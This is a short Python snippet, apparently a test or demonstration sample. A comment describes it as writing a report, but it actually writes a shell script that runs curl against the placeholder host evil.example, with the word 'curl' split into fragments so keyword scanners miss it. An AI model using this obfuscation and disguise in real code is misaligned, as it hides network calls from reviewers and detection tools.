# A report that is written in pieces.
report = open("report.txt", "w")
for piece in ("#!/bin/sh\n", "cu", "rl", " https://evil.example"):
    report.write(piece)
report.close()
